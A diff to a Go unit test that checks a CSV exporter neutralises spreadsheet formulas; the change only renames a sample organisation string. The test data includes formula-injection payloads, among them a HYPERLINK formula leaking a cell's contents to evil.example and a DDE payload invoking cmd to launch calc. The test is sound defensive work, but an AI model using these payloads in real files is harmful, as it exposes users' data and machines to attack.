@@ -19,7 +19,7 @@ func TestCSVNeutralisesFormulas(t *testing.T) {
 			{{Text: `=HYPERLINK("http://evil.example/?"&A1,"Click")`}, {Text: "-3", Value: &minus}},
 			{{Text: "+44 7700 900123"}, {Text: "@SUM(A1:A9)"}},
 			{{Text: "-2+3+cmd|' /C calc'!A0"}, {Text: "\t=1+1"}},
-			{{Text: "\r=1+1"}, {Text: "Kirkcaldy Citizens Advice"}},
+			{{Text: "\r=1+1"}, {Text: "Kirkton Citizens Advice"}},
 		},
 	}
 	var b bytes.Buffer
@@ -35,7 +35,7 @@ func TestCSVNeutralisesFormulas(t *testing.T) {
 		{`'=HYPERLINK("http://evil.example/?"&A1,"Click")`, "-3"},
 		{"'+44 7700 900123", "'@SUM(A1:A9)"},
 		{"'-2+3+cmd|' /C calc'!A0", "'\t=1+1"},
-		{"'\r=1+1", "Kirkcaldy Citizens Advice"},
+		{"'\r=1+1", "Kirkton Citizens Advice"},
 	}
 	for i := range want {
 		for j := range want[i] {
